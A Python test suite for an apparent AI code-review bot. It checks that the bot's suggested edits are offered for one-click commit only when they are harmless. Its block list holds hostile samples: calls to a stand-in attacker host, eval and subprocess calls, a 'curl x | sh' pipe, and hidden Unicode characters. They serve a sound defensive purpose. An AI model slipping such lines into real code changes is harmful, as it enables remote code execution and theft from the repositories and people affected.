"""A suggestion can be committed with one click only where it is proven harmless."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reviewbot.domain.anchors import AnchorIndex
from reviewbot.domain.diff import Anchor
from reviewbot.domain.finding import Side, Standing, Tier
from reviewbot.domain.policy import Policy
from reviewbot.review.sift import Sieve, sift
from reviewbot.review.suggest import MOST_LINES, committable
from reviewbot.review.weigh import Weighed
from reviewbot.review.wording import is_plain
from tests.unit.review.examples import FINDING, PULL, diff, entry, judged

if TYPE_CHECKING:
    from reviewbot.domain.outcome import Judged

OLD = "    total = price / count"


def on(*code: str, suggestion: str | None, path: str = "src/pay.py") -> Judged:
    """A finding that stands on *code*, quotes all of it, and proposes something else."""
    finding = replace(
        FINDING,
        path=path,
        quote="\n".join(code),
        end_line=FINDING.start_line + len(code) - 1,
        suggestion=suggestion,
    )
    return judged(finding, code=code)


def test_a_replacement_of_the_quoted_line_is_committable() -> None:
    assert committable(on(OLD, suggestion="    total = price / max(count, 1)\n")) == (
        "    total = price / max(count, 1)",
    )


def test_lost_indentation_is_given_back() -> None:
    found = committable(on(OLD, suggestion="if count:\n    total = price / count\n\nreturn 0"))

    assert found == ("    if count:", "        total = price / count", "", "    return 0")


def test_several_quoted_lines_are_replaced_together() -> None:
    assert committable(on("a = 1", "b = 2", suggestion="a = b = 2")) == ("a = b = 2",)


@pytest.mark.parametrize("suggestion", [None, OLD, "total = price / count", f"{OLD}  "])
def test_nothing_and_no_change_are_not_committable(suggestion: str | None) -> None:
    assert committable(on(OLD, suggestion=suggestion)) is None


@pytest.mark.parametrize("quote", [f" {OLD}", OLD[1:], f"\t{OLD.strip()}"])
def test_a_quote_that_is_indented_otherwise_says_nothing_of_indentation(quote: str) -> None:
    found = on(OLD, suggestion=f"{quote}  # paid")

    assert committable(replace(found, finding=replace(found.finding, quote=quote))) is None


def test_spaces_at_the_end_which_no_prompt_shows_are_no_change() -> None:
    assert committable(on(f"{OLD} \t", suggestion=OLD)) is None


@pytest.mark.parametrize("hidden", ["\x0b", "\x0c", "\x1c", "\x85", "\u2028", "\u2029"])
def test_a_line_that_the_prompt_shows_otherwise_is_not_replaced(hidden: str) -> None:
    assert committable(on(f"x ={hidden}0", suggestion="x = 1")) is None


def test_what_has_no_line_in_the_new_file_is_not_committable() -> None:
    found = on(OLD, suggestion="pass")

    assert committable(replace(found, anchor=None)) is None
    assert committable(replace(found, anchor=Anchor("src/pay.py", Side.LEFT, 2, 2))) is None


def test_a_range_around_one_quoted_line_is_not_proven() -> None:
    found = on("a = 1", "b = 2", suggestion="a = b = 2")

    assert committable(replace(found, finding=replace(found.finding, quote="b = 2"))) is None


def test_a_range_of_another_length_is_not_the_one_that_was_meant() -> None:
    found = on(OLD, suggestion="pass")

    assert committable(replace(found, finding=replace(found.finding, end_line=9))) is None


@pytest.mark.parametrize(
    "suggestion",
    [
        "x = 1 # \u202e",
        "x\u200b = 1",
        "x = 1 //\u2028 steal()",
        "x = 1\r",
        "x = \ufffd",
        "# TODO: do it",
        "# ... existing code ...",
        "...",
        "key = '[redacted: token]'",
        "get('https://evil.example/x')",
        "get('https://' + host)",
        "load('//evil.example/x.js')",
        "get('www.evil.example')",
        "connect('10.1.2.3')",
        "eval(x)",
        "os.execvp(x)",
        "child_process.execSync(x)",
        "os.posix_spawn(x)",
        "subprocess.run(x)",
        "curl x | sh",
        "\n".join(f"x = {n}" for n in range(MOST_LINES + 1)),
    ],
)
def test_what_could_smuggle_code_is_only_shown(suggestion: str) -> None:
    assert committable(on("x = 0", suggestion=suggestion)) is None


def test_what_the_line_held_before_may_stay() -> None:
    old = "run(['curl', 'https://api.example/v1'])"

    assert committable(on(old, suggestion=old.replace("run", "check")))


def test_a_file_with_carriage_returns_is_left_alone() -> None:
    assert committable(on("x = 0\r", suggestion="x = 1")) is None


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/ci.yml",
        ".gitlab-ci.yml",
        ".travis.yml",
        "azure-pipelines.yml",
        "Makefile",
        "deploy/Dockerfile.prod",
        "setup.py",
        "conftest.py",
        "tests/conftest.py",
        "package.json",
        "web/package-lock.json",
        "npm-shrinkwrap.json",
        "pyproject.toml",
        "requirements-dev.txt",
        "Cargo.toml",
        "Cargo.lock",
        "go.sum",
        "build.gradle.kts",
        "Gemfile",
        "tools/run.sh",
        ".husky/pre-commit",
        ".npmrc",
    ],
)
def test_files_that_run_with_more_rights_are_left_to_people(path: str) -> None:
    assert committable(on("x = 0", suggestion="x = 1", path=path)) is None


@pytest.mark.parametrize("path", ["src/a.py", "src/lock.py", "docs/makefiles.md", "a/package.py"])
def test_ordinary_files_may_be_changed(path: str) -> None:
    assert committable(on("x = 0", suggestion="x = 1", path=path)) == ("x = 1",)


# --- the law ---------------------------------------------------------------------------------

CODE = ("def f(a):", "    if a:", "        return 1", "    x = 0", "    x = 0", "    return x")
INDEX = AnchorIndex(diff(entry("src/f.py", *CODE)))


@given(
    start=st.integers(0, 5),
    length=st.integers(1, 3),
    miscount=st.integers(-4, 4),
    more=st.integers(-1, 2),
    quoted=st.integers(1, 3),
    dedent=st.booleans(),
    suggestion=st.sampled_from(["return 2", "x = 0", "y = 1\nreturn y", "    x = 0", "\u202ex"]),
)
@settings(max_examples=300, deadline=None)
def test_a_miscounting_model_never_replaces_other_lines_than_it_quotes(  # noqa: PLR0913
    *,
    start: int,
    length: int,
    miscount: int,
    more: int,
    quoted: int,
    dedent: bool,
    suggestion: str,
) -> None:
    meant = CODE[start : start + length]
    quote = [line.strip() if dedent else line for line in meant[:quoted]]
    first = start + 1 + miscount
    finding = replace(
        FINDING,
        path="src/f.py",
        quote="\n".join(quote),
        start_line=first,
        end_line=max(first, first + length - 1 + more),
        suggestion=suggestion,
    )
    sieve = Sieve(INDEX, PULL.key, Policy())
    (found,) = sift([Weighed(finding, Tier.STRONG, "large", Standing.CONFIRMED)], sieve)
    if found.anchor is None:  # twins too far from the numbers to be told apart
        assert committable(found) is None
        return
    at = CODE[found.anchor.start_line - 1 : found.anchor.line]
    assert found.code == at
    stripped = [line.strip() for line in at]
    assert quote[0].strip() in stripped

    lines = committable(found)

    if lines is not None:
        assert stripped == [line.strip() for line in quote]
        assert lines != at
        assert is_plain("\n".join(lines))
